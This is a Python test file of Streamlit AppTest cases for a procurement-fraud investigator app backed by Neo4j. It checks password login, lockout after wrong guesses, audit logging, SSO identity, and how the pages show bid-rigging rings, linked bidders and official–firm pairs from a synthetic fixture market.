"""One AppTest per page of the investigator app, against the real Neo4j holding the fixture market.

The fixture (tests/app/market.py): ring RING-1 = F1, F2, F3 rotating wins in T1–T6 with
cover bids 2 % and 4 % above the winner; pair PAIR-1 = official O1 and firm F5 (O1's
sister P2 owns shares of F5); O1 decided 2 approvals late; one detector run RUN-1.
"""

from __future__ import annotations

import json
import re
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from neo4j.exceptions import Neo4jError

from graph import app_queries
from graph.cypher import named
from graph.db import GraphError
from tests.app.conftest import (
    PASSWORD,
    USER,
    access_entries,
    all_text,
    app_session,
    clear_app_caches,
    graph_elements,
    no_exception,
    snake_case_headers,
    table,
)

pytestmark = pytest.mark.neo4j


# -- access ------------------------------------------------------------------------------
def test_login_needs_the_password_and_records_the_name(market_db, access_log):
    at = app_session(user=None)
    no_exception(at)
    assert "Log in" in all_text(at)
    assert not at.metric  # nothing of the data before login
    at.text_input(key="login_name").input("Ivan Investigator")
    at.text_input(key="login_password").input("wrong")
    at.button[0].click().run()
    assert "Wrong password" in all_text(at)
    assert "auth_user" not in at.session_state
    at.text_input(key="login_password").input(PASSWORD)
    at.button[0].click().run()
    no_exception(at)
    assert at.session_state["auth_user"] == "Ivan Investigator"
    assert "Overview" in all_text(at)
    # the shared password typed as the name is withheld; the password itself is never written
    at.session_state["auth_user"] = None
    at.run()
    at.text_input(key="login_name").input(PASSWORD)
    at.text_input(key="login_password").input("wrong")
    at.button[0].click().run()
    assert [(e["user"], e["action"]) for e in access_entries(access_log)] == [
        ("Ivan Investigator", "sign_in_refused"), ("Ivan Investigator", "sign_in"), ("(withheld)", "sign_in_refused")]
    assert PASSWORD not in access_log.read_text(encoding="ascii")


def test_the_password_typed_as_the_name_signs_nobody_in_and_stays_out_of_the_log(market_db, access_log):
    """With the password in both fields the sign-in went through, and the access log and every triage
    action recorded the password in clear as the user's name."""
    at = app_session(user=None)
    at.text_input(key="login_name").input(f" {PASSWORD} ")
    at.text_input(key="login_password").input(PASSWORD)
    at.button[0].click().run()
    no_exception(at)
    assert "auth_user" not in at.session_state
    assert "The name field holds the password" in all_text(at) and "Overview" not in all_text(at)
    assert [(e["user"], e["action"]) for e in access_entries(access_log)] == [("(withheld)", "sign_in_refused")]
    assert PASSWORD not in access_log.read_text(encoding="ascii")
    at.text_input(key="login_name").input("Ivan Investigator")  # near-miss: a name of one's own
    at.text_input(key="login_password").input(PASSWORD)
    at.button[0].click().run()
    assert at.session_state["auth_user"] == "Ivan Investigator"


def test_the_sixth_attempt_after_five_wrong_passwords_is_refused_even_with_the_right_one(market_db, access_log):
    """There was no limit: a guesser could try the shared password as fast as the page reruns. AppTest gives
    the script no client address, so this is the one count of the addresses the app cannot tell apart
    (per address and over all addresses: tests/app/test_login_throttle.py)."""
    at = app_session(user=None)

    def attempt(name: str, given: str) -> str:
        at.text_input(key="login_name").input(name)
        at.text_input(key="login_password").input(given)
        at.button[0].click().run()
        no_exception(at)
        return all_text(at)

    for n in range(4):
        attempt("Mallory", f"guess {n}")
    attempt("Ivan Investigator", PASSWORD)  # near-miss: four wrong passwords, then the right one gets in ...
    assert at.session_state["auth_user"] == "Ivan Investigator"
    at.session_state["auth_user"] = None  # ... and clears the count: four more are not a lock either
    at.run()
    assert all("Too many" not in attempt("Mallory", f"guess {n}") for n in range(4))
    shown = attempt("Mallory", "guess 4")
    assert "Wrong password." in shown and "Too many wrong passwords" in shown and "15 more minutes" in shown
    shown = attempt("Mallory", PASSWORD)
    assert not at.session_state["auth_user"] and "Overview" not in shown
    assert "Too many wrong passwords" in shown and "Try again then" in shown
    # under the lock the name field is no oracle either: the password there gets the same answer
    shown = attempt(PASSWORD, "x")
    assert "Too many wrong passwords" in shown and "The name field holds the password" not in shown

    entries = access_entries(access_log)
    wrong = ("Mallory", "sign_in_refused", "wrong password")
    assert [(e["user"], e["action"], e.get("reason")) for e in entries] == [
        *[wrong] * 4, ("Ivan Investigator", "sign_in", None), *[wrong] * 5, ("Mallory", "sign_in_locked", None),
        ("Mallory", "sign_in_refused", "locked"), ("(withheld)", "sign_in_refused", "locked")]
    started = entries[10]
    assert (started["client"], started["locked"], started["failures"], started["window_seconds"]) == (
        "(unknown address)", "(unknown address)", 5, 900)
    ends_in = datetime.fromisoformat(entries[-1]["until"]) - datetime.now(UTC)
    assert timedelta(minutes=14) < ends_in <= timedelta(minutes=16)
    assert PASSWORD not in access_log.read_text(encoding="ascii")


def test_signing_out_leaves_nothing_of_the_session_to_the_next_user(market_db, access_log):
    at = app_session("views/console.py", user="Ana")
    at.session_state["console_result"] = "rows of a query run by Ana"  # what the console keeps between runs
    at.session_state["explore_graph"] = "a graph Ana was exploring"
    at.run()
    [logout] = [b for b in at.button if b.label == "Log out"]
    logout.click().run()
    no_exception(at)
    assert "auth_user" not in at.session_state
    assert "console_result" not in at.session_state and "explore_graph" not in at.session_state
    assert [(e["user"], e["action"]) for e in access_entries(access_log)][-1] == ("Ana", "sign_out")


def test_without_a_configured_password_nobody_gets_in(market_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from tests.app.conftest import APP

    monkeypatch.delenv("IRONCAGE_APP_PASSWORD", raising=False)
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.secrets["unrelated"] = "x"  # replaces any secrets.toml: no app_password, no [auth]
    at.run()
    no_exception(at)
    assert "No app password is set" in all_text(at)
    assert "IRONCAGE_APP_PASSWORD" in all_text(at)
    assert not at.text_input  # no login form


SSO = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret": "x" * 32, "client_id": "iron-cage",
       "client_secret": "s", "server_metadata_url": "https://idp.example/.well-known/openid-configuration"}


def test_single_sign_on_identity_goes_into_the_audit_trail(market_db):
    from streamlit.testing.v1 import AppTest

    from tests.app.conftest import APP

    at = AppTest.from_file(str(APP), default_timeout=60)
    at.secrets["auth"] = SSO
    at.user = {"is_logged_in": False}
    at.run()
    no_exception(at)
    assert [b.label for b in at.button] == ["Log in"] and not at.text_input  # SSO button, no password form
    at.user = {"is_logged_in": True, "name": "Sana SSO", "email": "sana@example.org"}
    at.switch_page("views/cases.py").run()
    no_exception(at)
    assert at.session_state["auth_user"] == "Sana SSO"
    at.selectbox(key="cases_pick").set_value("LB-1").run()
    at.text_area(key="triage_comment_cases_LB-1").input("Checked the phone records")
    [save] = [b for b in at.button if b.label == "Save triage"]
    save.click().run()
    events = app_queries.case_events(market_db, "LB-1")
    assert list(events["user"]) == ["Sana SSO"] and list(events["action"]) == ["comment"]


def test_unreachable_database_says_how_to_start_it(monkeypatch):
    monkeypatch.setenv("NEO4J_URI", "bolt://127.0.0.1:9")  # discard port: nothing listens
    clear_app_caches()
    try:
        at = app_session()
        no_exception(at)
        text = all_text(at)
        assert "unreachable" in text
        assert "python -m graph server start" in text
    finally:
        clear_app_caches()


def test_empty_database_says_how_to_load_data(clean_db):
    clear_app_caches()
    at = app_session()
    no_exception(at)
    text = all_text(at)
    assert "empty" in text
    assert "make demo" in text and "python -m loaders csv" in text


# -- pages ----------------------------------------------------------------------------------
def test_overview_shows_latest_run_counts_and_top_findings(market_db, shanghai_time):
    at = app_session()
    no_exception(at)
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Started"] == "2024-07-01 18:00 CST"  # stored 10:00 UTC, shown in the server's zone
    assert metrics["Took"] == "12.5 s"
    assert metrics["Tenders"] == "6"
    assert metrics["First published"] == "2024-01-10"
    top = table(at, "finding_id", "explanation").set_index("finding_id")
    # detector by detector, each by score: the detectors' scores are not on one scale (the strongest ring sat
    # 12th of 15 among tender screens and red flags: an app review)
    assert list(top["detector"]) == ["rings", "rings", "linked bidders", "closeness", "tender risk",
                                     "official profile", "red flags", "red flags"]
    assert list(top.index[:2]) == ["RING-1", "RING-2"]
    # each opens on its page (a ring on Rings, a pair on Closeness), the others on Cases
    links = [(link.proto.page, link.proto.query_string) for link in at.page_link]
    assert links[:2] == [("rings", "open=RING-1"), ("rings", "open=RING-2")]
    assert ("closeness", "open=PAIR-1") in links and ("cases", "open=LB-1") in links
    # each says what it is about by name, and its kind and detector in words
    assert top.loc["RING-1", "about"] == "Alpha Build (F1), Beta Build (F2), Gamma Build (F3)"
    assert top.loc["TR-1", "about"].endswith("(T2)") and top.loc["LB-1", "kind"] == "linked bidders"
    assert top.loc["TR-1", "detector"] == "tender risk"
    counts = table(at, "total")
    assert counts.loc["ring", "total"] == 2 and counts.loc["pair", "total"] == 1
    assert "of them weak" not in counts  # no finding has a tier
    _set_tier(market_db, "RING-2", "weak")
    at.run()
    counts = table(at, "total")
    assert (counts.loc["ring", "total"], counts.loc["ring", "of them weak"], counts.loc["pair", "of them weak"]) == (2, 1, 0)
    labels = table(at, "label", "nodes").set_index("label")["nodes"]
    assert labels["Firm"] == 6 and labels["Bid"] == 20
    assert not at.error  # the latest run succeeded
    assert list(table(at, "run_id", "error")["run_id"]) == ["RUN-1"]


def test_overview_says_when_the_data_was_last_loaded_and_warns_of_a_bad_load(market_db, shanghai_time):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (:LoadRun {id: 'L0', kind: 'csv', source: 'csv:city', input: '/exports/2024-06-30', "
                    "status: 'failed', started_at: datetime('2024-06-30T02:00:00Z'), error: 'x'})").consume()
        session.run("CREATE (:LoadRun {id: 'L1', kind: 'csv', source: 'csv:city', input: '/exports/2024-07-01', "
                    "status: 'succeeded', started_at: datetime('2024-07-01T02:00:00Z'), "
                    "finished_at: datetime('2024-07-01T02:05:00Z'), rows_read: 120, rows_loaded: 118, rejected: 2})"
                    ).consume()
    at = app_session()
    no_exception(at)
    assert "Last load: /exports/2024-07-01 (csv, source csv:city), succeeded at 2024-07-01 10:05:00 CST · 118 rows loaded" \
        in all_text(at).replace("\\", "")  # markdown escapes shown plain
    assert not at.warning
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (:LoadRun {id: 'L2', kind: 'ocds', source: 'ocds', input: 'feed.jsonl.gz', "
                    "status: 'partial', started_at: datetime('2024-07-02T02:00:00Z'), "
                    "finished_at: datetime('2024-07-02T02:01:00Z'), rows_read: 50, rows_loaded: 50, "
                    "note: 'feed.jsonl.gz: the compressed file is cut short or damaged'})").consume()
    clear_app_caches()
    at.run()
    [warning] = [w.value for w in at.warning]
    assert "The last load was partial" in warning and "cut short or damaged" in warning
    loads = table(at, "source", "rows_loaded")
    assert list(loads["started_at"]) == ["2024-07-02 10:00:00 CST", "2024-07-01 10:00:00 CST", "2024-06-30 10:00:00 CST"]
    assert list(loads["source"]) == ["ocds", "csv:city", "csv:city"]
    assert str(app_queries.recent_loads(market_db)["rows_loaded"].dtype) == "Int64"  # whole numbers, not 118.0
    assert list(loads["rows_loaded"].astype(object).where(loads["rows_loaded"].notna(), None)) == [50, 118, None]


def test_overview_says_when_a_run_or_load_marked_running_has_no_process(market_db, shanghai_time):
    """A run or load killed with SIGKILL stays "running" until the next one: the Overview showed it as
    running (findings "?") for good. The job lock tells: a job that runs holds it on the server."""
    from graph.lock import server_lock

    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (:DetectorRun {id: 'RUN-3', status: 'running', started_at: datetime('2024-08-01T02:15:00Z')})"
                    ).consume()
        session.run("CREATE (:LoadRun {id: 'L3', kind: 'csv', source: 'csv:city', input: '/exports/2024-08-01', "
                    "status: 'running', started_at: datetime('2024-08-01T02:00:00Z')})").consume()
    with server_lock(market_db, "a detector run"):  # alive: nothing to warn of
        at = app_session()
        no_exception(at)
        assert {m.label: m.value for m in at.metric}["Status"] == "running"
        assert not at.warning
    clear_app_caches()
    at.run()
    warnings = [w.value for w in at.warning]
    assert len(warnings) == 2, warnings
    assert "latest run is marked running, but no job holds the database's lock" in warnings[0]
    assert "last load is marked running, but no job holds the database's lock" in warnings[1]


def test_overview_says_when_the_latest_run_failed_and_whose_findings_are_shown(market_db, shanghai_time):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (:DetectorRun {id: 'RUN-2', status: 'failed', started_at: datetime('2024-08-01T02:15:00Z'), "
                    "seconds: 3.0, finding_count: 0, error: 'ServiceUnavailable: the database went away'})").consume()
    at = app_session()
    no_exception(at)
    assert {m.label: m.value for m in at.metric}["Status"] == "failed"
    [error] = [e.value for e in at.error]
    assert "ServiceUnavailable" in error and "the database went away" in error
    assert "the last successful run, started 2024-07-01 18" in error and "CST." in error
    runs = table(at, "run_id", "error")
    assert list(runs["run_id"]) == ["RUN-2", "RUN-1"] and list(runs["status"]) == ["failed", "succeeded"]
    # more than a page of failed runs after it: the successful one is still the one named
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("UNWIND range(1, 25) AS i CREATE (:DetectorRun {id: 'RUN-F' + i, status: 'failed', "
                    "started_at: datetime('2024-09-01T02:15:00Z') + duration({days: i}), error: 'x'})").consume()
    clear_app_caches()
    at.run()
    [error] = [e.value for e in at.error]
    assert "the last successful run, started 2024-07-01 18" in error and "CST." in error


def test_rings_page_graph_bids_facts_and_triage(market_db):
    at = app_session("views/rings.py")
    no_exception(at)
    ranked = table(at, "ring_id", "key_screens")
    assert list(ranked["ring_id"]) == ["RING-1", "RING-2"]
    assert ranked.iloc[0]["members"] == 3 and ranked.iloc[0]["tenders"] == 6
    assert at.selectbox(key="ring_pick").value == "RING-1"

    elements = graph_elements(at, "group_graph_RING-1")
    by_name = {n["data"]["name"]: n["data"] for n in elements["nodes"]}
    assert {"Alpha Build", "Beta Build", "Gamma Build", "13800000001", "1 Ring Road", "Pat Owner"} <= set(by_name)
    assert by_name["Alpha Build"]["label"] == "winner"  # won T1 and T4
    assert "Delta Outsider" not in by_name  # the outsider is not a member
    won = [e for e in elements["edges"] if e["data"]["label"] == "WON"]
    assert len(won) == 6  # one winner per tender

    keys = {getattr(x, "key", None) for x in _walk_all(at)}
    charts = [k for k in ("group_bids_chart_RING-1", "group_rotation_chart_RING-1") if k in keys]
    assert charts == ["group_bids_chart_RING-1", "group_rotation_chart_RING-1"]

    facts = table(at, "fact", "threshold").set_index("path")
    assert facts.loc["screens.cv", "value"] == "0.019" and facts.loc["screens.cv", "threshold"] == "0.03"
    assert facts.loc["screens.cv", "fact"] == "screens › coefficient of variation"

    # triage: status + comment → two CaseEvents with who and when; the ring mirrors the status
    at.selectbox(key="triage_status_rings_RING-1").set_value("in_progress")
    at.text_area(key="triage_comment_rings_RING-1").input("Pull the bid documents")
    _submit(at, "Save triage")
    no_exception(at)
    events = app_queries.case_events(market_db, "RING-1")
    assert list(events["action"]) == ["status", "comment"]
    assert set(events["user"]) == {USER}
    assert events["at"].notna().all()
    assert events.iloc[1]["comment"] == "Pull the bid documents"
    assert app_queries.finding(market_db, "RING-1")["status"] == "in_progress"
    assert "Saved 2 change(s)" in all_text(at)
    history = table(at, "action", "user", "at")
    assert history.shape[0] == 2 and "in progress" in set(history["status"])  # in words, not in_progress
    assert table(at, "ring_id", "key_screens").set_index("ring_id").loc["RING-1", "status"] == "in progress"
    # each member opens on Firms, and each of its tenders on Tenders (with its bids, flagged or not); each related
    # finding on its own page (linked bidders on Cases, the tender findings on Tenders)
    assert sorted((link.proto.page, link.proto.query_string) for link in at.page_link) == [
        ("cases", "open=LB-1"), ("firms", "open=F1"), ("firms", "open=F2"), ("firms", "open=F3"),
        ("tenders", "open=RF-1"), *[("tenders", f"open=T{n}") for n in range(1, 7)], ("tenders", "open=TR-1")]


def test_a_ring_s_related_findings_are_listed_and_take_its_status_together(market_db):
    """A ring, the linked bidders among its members and the risky tenders it bid in were separate cases: an
    investigator who confirmed the ring found the others open, with nothing on the ring's page to point to them."""
    at = app_session("views/rings.py")
    no_exception(at)
    related = table(at, "finding", "shares")
    assert list(related["finding"]) == ["LB-1", "TR-1", "RF-1"]
    assert list(related["shares"])[:2] == ["Alpha Build (F1), Beta Build (F2); 6 tenders", "T2 Road resurfacing lot 2"]
    assert list(related["kind"]) == ["linked bidders", "tender", "tender"]
    assert at.selectbox(key="related_status_rings_RING-1").value == "open"  # the ring's own status to start with
    # the ring's own triage moves on: the form follows it (it kept "open", and so reopened what it was applied to)
    at.selectbox(key="triage_status_rings_RING-1").set_value("confirmed")
    _submit(at, "Save triage")
    assert at.selectbox(key="related_status_rings_RING-1").value == "confirmed"
    at.multiselect(key="related_chosen_rings_RING-1").set_value(["LB-1", "TR-1"])
    at.text_input(key="related_comment_rings_RING-1").input("same cartel")
    app_queries.record_triage(market_db, "TR-1", "Li", status="dismissed")  # a colleague, meanwhile
    _submit(at, "Set their status")
    no_exception(at)
    text = all_text(at)
    assert "Set LB-1 to confirmed, each with a comment naming RING-1 (3 change(s) saved as" in text
    assert "Someone changed these since you chose them" in text and "TR-1 is now dismissed" in text
    assert app_queries.finding(market_db, "LB-1")["status"] == "confirmed"
    assert app_queries.case_events(market_db, "LB-1")["comment"].iloc[-1] == "Status set together with RING-1: same cartel"
    assert app_queries.finding(market_db, "TR-1")["status"] == "dismissed"  # the colleague's decision stands
    assert app_queries.finding(market_db, "RF-1")["status"] == "open"  # not chosen
    assert app_queries.case_events(market_db, "RING-1")["comment"].iloc[-1] == \
        "Set LB-1 to confirmed together with this finding: same cartel"
    assert at.multiselect(key="related_chosen_rings_RING-1").value == []  # saved: the form is empty again
    assert list(table(at, "finding", "shares")["status"]) == ["confirmed", "dismissed", "open"]  # read again


def _headers(at, *columns: str) -> dict[str, str]:
    """The headers the first table with ``columns`` shows (its st.column_config labels, else the names), by
    column name (st.dataframe has no key in AppTest)."""
    import json

    found = [e for e in at.dataframe if set(columns) <= set(e.value.columns)]
    assert found, f"no table with columns {columns}"
    config = json.loads(found[0].proto.columns or "{}")
    return {str(c): config.get(str(c), {}).get("label", str(c)) for c in found[0].value.columns}


def test_rings_page_lists_the_rings_tenders_with_who_bid_and_who_won(market_db, monkeypatch):
    """An investigator could not see the list of a ring's tenders (an app review): which members bid in
    each, who won it and for how much. A tender F1 won with only the outsider F4 against it is not one of
    the ring's, and a tender whose award has no amount shows the winner's bid."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("""
            CREATE (t7:Tender {id: 'T7', title: 'Road lot 7', category: 'roads', published_at: date('2024-07-10')})
            WITH t7 MATCH (f1:Firm {id: 'F1'}), (f4:Firm {id: 'F4'})
            CREATE (f1)-[:SUBMITTED]->(:Bid {id: 'B7-F1', amount: 90000.0})-[:FOR]->(t7),
                   (f4)-[:SUBMITTED]->(:Bid {id: 'B7-F4', amount: 95000.0})-[:FOR]->(t7),
                   (t7)-[:AWARDED_TO {amount: 90000.0}]->(f1)
            WITH count(*) AS _
            MATCH (:Tender {id: 'T3'})-[w:AWARDED_TO]->() REMOVE w.amount""").consume()
    clear_app_caches()
    at = app_session("views/rings.py")
    no_exception(at)
    tenders = table(at, "tender_id", "winner_id", "winning_amount").set_index("tender_id")
    assert list(tenders.index) == ["T1", "T2", "T3", "T4", "T5", "T6"]  # not T7
    t1 = tenders.loc["T1"]
    assert (t1["published_at"], t1["category"], t1["bids"]) == ("2024-01-10", "roads", 4)  # F4 bid too
    assert t1["members"] == "Alpha Build (F1), Beta Build (F2), Gamma Build (F3)"
    assert (t1["winner"], t1["winner_id"], t1["winning_amount"], t1["member_won"]) == ("Alpha Build", "F1",
                                                                                       101000.0, True)
    assert (tenders.loc["T3", "bids"], tenders.loc["T3", "winner_id"]) == (3, "F3")
    assert tenders.loc["T3", "winning_amount"] == 103000.0  # the award has no amount: F3's bid
    assert list(tenders["winner_id"]) == ["F1", "F2", "F3", "F1", "F2", "F3"]
    headers = _headers(at, "tender_id", "winner_id")
    assert [headers[c] for c in ("tender_id", "published_at", "members", "winner_id", "winning_amount")] == [
        "tender id", "published", "members who bid", "winner id", "winning amount (CNY)"]  # its one currency
    assert "currency" not in tenders  # said in the header, not a column
    assert not [h for h in headers.values() if "_" in h]  # no snake_case header
    assert "The ring's tenders** — the 6 tenders where two or more members bid" in all_text(at)
    assert "tenders by id" not in all_text(at)  # 6 of the store's 500 at most: all of them
    # a ring with as many tenders as the store keeps says it may have more (the table read as if complete)
    from graph import findings_store
    monkeypatch.setattr(findings_store, "MAX_RING_TENDERS", 6)
    at.run()
    assert "stored with its first 6 tenders by id: this ring may have more" in all_text(at)
    monkeypatch.undo()
    # near-miss: a ring with no tenders stored says so, and lists none
    at.selectbox(key="ring_pick").set_value("RING-2").run()
    no_exception(at)
    assert not [e for e in at.dataframe if "winner_id" in e.value.columns]
    assert "No tenders are stored with this ring." in all_text(at)


def test_a_ring_found_again_with_other_members_points_to_its_triaged_predecessor(market_db):
    """A ring whose membership changed by half is a new ring with an open status (graph/findings_store.py);
    the earlier one, dismissed by an investigator and no longer found, is named on the new one, and it is
    told apart in the list and on its own page (an app review: nothing linked the two)."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (old:Ring {id: 'RING-OLD', score: 50.0, active: false, status: 'dismissed', "
                    "explanation: 'Two firms bid together.', evidence: '{}', "
                    "last_seen_at: datetime('2024-05-01T00:00:00Z')}) "
                    "WITH old MATCH (f:Firm) WHERE f.id IN ['F1', 'F2'] CREATE (f)-[:MEMBER_OF]->(old) "
                    "WITH DISTINCT old CREATE (:CaseEvent {id: 'E-OLD', at: datetime('2024-05-02T10:00:00Z'), seq: 0, "
                    "user: 'Ana', action: 'status', status: 'dismissed'})-[:ON]->(old)").consume()
    clear_app_caches()
    at = app_session("views/rings.py")
    no_exception(at)
    assert "latest run" not in table(at, "ring_id", "key_screens").columns
    note = [i.value for i in at.info if "RING-OLD" in i.value]
    assert note and "2 of its 2 members here; dismissed; last triaged by Ana on 2024-05-02" in note[0]
    at.toggle(key="rings_inactive").set_value(True).run()
    listed = table(at, "ring_id", "key_screens").set_index("ring_id")
    assert listed.loc["RING-OLD", "latest run"] == "no longer found" and listed.loc["RING-1", "latest run"] == "found"
    at.selectbox(key="ring_pick").set_value("RING-OLD").run()
    no_exception(at)
    assert any("no longer found this ring; it was last found on 2024-05-01" in w.value for w in at.warning)
    # near-miss: a ring sharing no member with an earlier triaged one has no such note
    at.selectbox(key="ring_pick").set_value("RING-2").run()
    assert not [i.value for i in at.info if "RING-OLD" in i.value]


def _set_tier(db, finding_id: str, tier: str) -> None:
    """Give a fixture finding the tier its detector would write in the evidence (and the store on the node)."""
    import json

    evidence = json.loads(app_queries.finding(db, finding_id)["evidence"])
    with db.driver.session(database=db.settings.database) as session:
        session.run("MATCH (n {id: $id}) WHERE n:Ring OR n:Alert SET n.evidence = $evidence, n.tier = $tier",
                    id=finding_id, evidence=json.dumps({**evidence, "tier": tier}), tier=tier).consume()
    clear_app_caches()


def test_weak_rings_and_pairs_are_listed_only_when_asked_for(market_db):
    _set_tier(market_db, "RING-1", "strong")
    _set_tier(market_db, "RING-2", "weak")
    at = app_session("views/rings.py")
    no_exception(at)
    assert list(table(at, "ring_id", "key_screens")["ring_id"]) == ["RING-1"]
    assert "Showing 1; 1 weak rings" in all_text(at)
    at.toggle(key="rings_weak").set_value(True).run()
    no_exception(at)
    shown = table(at, "ring_id", "key_screens").set_index("ring_id")
    assert list(shown.index) == ["RING-1", "RING-2"] and list(shown["tier"]) == ["strong", "weak"]

    # only weak pairs: the page says so and lists nothing until asked
    _set_tier(market_db, "PAIR-1", "weak")
    at = app_session("views/closeness.py")
    no_exception(at)
    assert "No strong pairs: all 1 are weak" in all_text(at)
    assert not any("alert_id" in f.value.columns for f in at.dataframe)
    at.toggle(key="pairs_weak").set_value(True).run()
    no_exception(at)
    assert list(table(at, "alert_id", "key_facts")["tier"]) == ["weak"]

    # a weak ring someone works on stays listed without the toggle; unassigned again, it goes back
    app_queries.record_triage(market_db, "RING-2", "Ana", assignee="Ana")
    clear_app_caches()
    at = app_session("views/rings.py")
    no_exception(at)
    assert list(table(at, "ring_id", "key_screens")["ring_id"]) == ["RING-1", "RING-2"]
    app_queries.record_triage(market_db, "RING-2", "Ana", assignee="")
    clear_app_caches()
    at = app_session("views/rings.py")
    assert list(table(at, "ring_id", "key_screens")["ring_id"]) == ["RING-1", "RING-2"]  # its case history stays
    _set_tier(market_db, "PAIR-1", "weak")
    app_queries.record_triage(market_db, "PAIR-1", "Ana", comment="seen the visits")  # a comment alone is triage
    clear_app_caches()
    at = app_session("views/closeness.py")
    assert list(table(at, "alert_id", "key_facts")["alert_id"]) == ["PAIR-1"]


def test_cases_page_draws_a_group_of_linked_bidders_as_the_rings_page_draws_a_ring(market_db):
    """Linked bidders have no page of their own: their case drew nothing but facts (an app review)."""
    at = app_session("views/cases.py")
    at.selectbox(key="cases_pick").set_value("LB-1").run()
    no_exception(at)
    names = {n["data"]["name"] for n in graph_elements(at, "group_graph_LB-1")["nodes"]}
    assert {"Alpha Build", "Beta Build", "13800000001"} <= names and "Gamma Build" not in names
    keys = {getattr(x, "key", None) for x in _walk_all(at)}
    assert {"group_bids_chart_LB-1", "group_rotation_chart_LB-1"} <= keys
    # its tenders as a table, naming only the group's own firms among the bidders (F3 is no linked bidder)
    tenders = table(at, "tender_id", "winner_id", "winning_amount").set_index("tender_id")
    assert list(tenders.index) == [f"T{i}" for i in range(1, 7)]
    assert set(tenders["members"]) == {"Alpha Build (F1), Beta Build (F2)"}
    assert (tenders.loc["T3", "winner"], tenders.loc["T3", "member_won"]) == ("Gamma Build", False)
    assert _headers(at, "tender_id", "winner_id")["members"] == "firms of the group who bid"
    at.selectbox(key="cases_pick").set_value("PAIR-1").run()  # a pair is no group of firms: Closeness draws it
    no_exception(at)
    assert not [k for k in {getattr(x, "key", None) for x in _walk_all(at)} if str(k).startswith("group_")]


def test_a_cases_facts_name_the_firms_they_are_about(market_db):
    """A fact's path held a member's bare id ("wins_by_member.F1"); it reads as that firm, in words."""
    at = app_session("views/cases.py")
    at.selectbox(key="cases_pick").set_value("LB-1").run()
    no_exception(at)
    facts = table(at, "fact", "path").set_index("path")
    assert facts.loc["wins_by_member.F1", ["fact", "value"]].tolist() == ["wins of F1 (Alpha Build)", "2"]
    assert facts.loc["shared.phone", "fact"] == "shared › phone"
    assert facts.loc["wins_by_member.F1", "meaning"].startswith("tenders this member won")
    assert list(facts.columns) == ["fact", "value", "meaning"]  # no baseline, threshold … that nothing fills


def test_a_group_whose_bids_have_no_amounts_gets_no_empty_price_chart(market_db):
    """OCDS tender.tenderers give bids without amounts: the chart of % above the winner was drawn empty,
    under its sentence on cover bids (a review)."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (b:Bid)-[:FOR]->(:Tender) REMOVE b.amount").consume()
    at = app_session("views/cases.py")
    at.selectbox(key="cases_pick").set_value("LB-1").run()
    no_exception(at)
    keys = {getattr(x, "key", None) for x in _walk_all(at)}
    assert "group_bids_chart_LB-1" not in keys and "group_rotation_chart_LB-1" in keys  # who won is still known
    assert any("no price chart" in c.value for c in at.caption)


def test_a_link_to_a_weak_finding_opens_it_with_the_weak_ones_hidden(market_db):
    """A link to a weak pair said it was not in the list and opened another, the weak toggle on or off: an
    investigator sent a weak lead could not read it (an app review)."""
    _set_tier(market_db, "RING-1", "strong")
    _set_tier(market_db, "RING-2", "weak")
    at = app_session("views/rings.py")
    at.query_params["open"] = "RING-2"
    at.run()
    no_exception(at)
    assert not at.warning and at.selectbox(key="ring_pick").value == "RING-2"
    assert list(table(at, "ring_id", "key_screens")["ring_id"]) == ["RING-1", "RING-2"]  # the others stay hidden
    # a pick of another ring takes the address, and the weak one is hidden again
    at.selectbox(key="ring_pick").set_value("RING-1").run()
    assert list(table(at, "ring_id", "key_screens")["ring_id"]) == ["RING-1"]
    _set_tier(market_db, "PAIR-1", "weak")
    clear_app_caches()
    at = app_session("views/closeness.py")
    at.query_params["open"] = "PAIR-1"
    at.run()
    no_exception(at)
    assert not at.warning and at.selectbox(key="pair_pick").value == "PAIR-1"


def test_cases_page_hides_untriaged_weak_leads_until_asked(market_db):
    _set_tier(market_db, "RING-1", "strong")
    _set_tier(market_db, "RING-2", "weak")
    _set_tier(market_db, "PAIR-1", "weak")
    at = app_session("views/cases.py")
    no_exception(at)
    listed = list(table(at, "finding_id", "about")["finding_id"])
    assert listed == ["RING-1", "TR-1", "RF-1", "RF-2", "LB-1", "OFF-1"]  # the kinds without a tier stay
    assert "2 weak rings and pairs" in all_text(at)
    at.toggle(key="cases_weak").set_value(True).run()
    no_exception(at)
    cases = table(at, "finding_id", "about").set_index("finding_id")
    assert list(cases.index) == ["RING-1", "PAIR-1", "TR-1", "RF-1", "RF-2", "LB-1", "OFF-1", "RING-2"]
    assert (cases.loc["RING-2", "tier"], cases.loc["PAIR-1", "tier"], cases.loc["TR-1", "tier"]) == ("weak", "weak",
                                                                                                     None)
    # kinds in words, in the table and the picker (linked_bidders, pair and official read as code names)
    assert (cases.loc["LB-1", "kind"], cases.loc["PAIR-1", "kind"]) == ("linked bidders", "official–firm pair")
    assert "LB-1 · linked bidders · score" in at.selectbox(key="cases_pick").options[-3]
    # a comment is triage too: the weak pair someone commented on is listed without the toggle
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (a:Alert {id: 'PAIR-1'}) "
                    "CREATE (:CaseEvent {id: 'E-weak', at: datetime(), user: 'Ana', action: 'comment', "
                    "comment: 'check the 2023 visits'})-[:ON]->(a)").consume()
    clear_app_caches()
    at = app_session("views/cases.py")
    no_exception(at)
    assert list(table(at, "finding_id", "about")["finding_id"]) == ["RING-1", "PAIR-1", "TR-1", "RF-1", "RF-2",
                                                                       "LB-1", "OFF-1"]


def test_officials_page_record_and_drill_down(market_db):
    at = app_session("views/officials.py")
    no_exception(at)
    record = table(at, "official_id", "workload_z").set_index("official_id")
    assert record.loc["O1", "overdue"] == 2 and record.loc["O2", "overdue"] == 0
    assert record.loc["O1", "inspections"] == 10 and record.loc["O3", "evaluations"] == 6
